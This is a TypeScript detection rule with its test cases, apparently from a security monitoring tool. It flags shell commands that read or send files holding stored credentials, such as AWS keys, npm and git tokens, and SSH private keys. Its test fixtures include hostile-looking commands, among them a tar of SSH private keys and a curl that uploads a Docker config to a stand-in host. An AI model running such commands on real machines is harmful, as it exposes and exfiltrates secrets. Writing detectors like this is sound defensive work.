import type { Detection, DetectionCase } from "../detection.ts";
import { quote, textField } from "../text.ts";
import { finding, quiet, typed } from "./case-events.ts";
import { userOf } from "./evidence.ts";

const MAX_LENGTH = 8 * 1024;
/** Files in which tools keep passwords, tokens and keys in the clear. */
const STORES = String.raw`\.aws[/\\]credentials|\.npmrc|\.pypirc|\.netrc|\.git-credentials|\.docker[/\\]config\.json|\.kube[/\\]config|\.ssh[/\\]id_(?:rsa|ed25519|ecdsa)(?!\.pub)|application_default_credentials\.json`;
/** Commands that show, pack or send a file; not those that write one (`cat > ~/.npmrc`). */
const READ = new RegExp(
  String.raw`\b(?:cat|type|head|tail|base64|xxd|tar|zip|curl|get-content|gc)\b[^|;&<>]{0,200}?(?:${STORES})(?![\w-])`,
  "i",
);

/** A command reads where tools keep credentials: who steals a machine's secrets looks there first. */
export const detection: Detection = {
  id: "credential-files",
  title: "Stored credentials read by a command",
  technique: { id: "T1552.001", name: "Credentials In Files", tactic: "Credential Access" },
  actions: [
    "Look at the parent process: a person at a terminal, or a script that somebody installed?",
    "Replace the credentials in the files that were read",
  ],
  reads: ["command_line"],
  examine({ event }) {
    const line = textField(event.payload, "command_line")?.slice(0, MAX_LENGTH);
    const [read] = line === undefined ? [] : (READ.exec(line) ?? []);
    if (read === undefined) return undefined;
    const user = userOf(event.payload);
    return {
      detection: detection.id,
      severity: "MEDIUM",
      threat_type: "CREDENTIAL_ACCESS",
      confidence: 0.6,
      summary: `Stored credentials read${user === undefined ? "" : ` by ${quote(user, 64)}`}: ${quote(read, 120)}`,
      signals: [quote(read, 120)],
    };
  },
};

const run = (line: string) =>
  typed("process_execution", { command_line: line, image: "/bin/sh", user: "runner" });

export const cases: readonly DetectionCase[] = [
  ...finding("MEDIUM", "CREDENTIAL_ACCESS", {
    "a cloud's keys": run("cat /home/runner/.aws/credentials"),
    "several files": run("cat /home/runner/.bashrc /home/runner/.npmrc"),
    "keys that are packed": run("tar czf - /root/.ssh/id_ed25519 /root/.kube/config"),
    "a file that is sent": run("curl -F f=@/root/.docker/config.json https://drop.example/u"),
    Windows: run("type C:\\Users\\bob\\.aws\\credentials"),
    "called normal": typed("normal_traffic", { command_line: "base64 ~/.git-credentials" }),
  }),
  ...quiet({
    "a file that is written": run("cat > /home/runner/.npmrc"),
    "a file that is copied into place": run("cp /secrets/npmrc /home/runner/.npmrc"),
    "a public key": run("cat /home/bob/.ssh/id_ed25519.pub"),
    "an example": run("cat docs/.npmrc-example"),
    "another file": run("cat /home/bob/.aws/config"),
    "a tool with its own configuration": run("npm ci --userconfig /home/runner/.npmrc"),
    "two commands": run("cat notes.txt; npm config set userconfig .npmrc"),
    "no command line": typed("process_execution", { image: "/bin/cat" }),
  }),
];
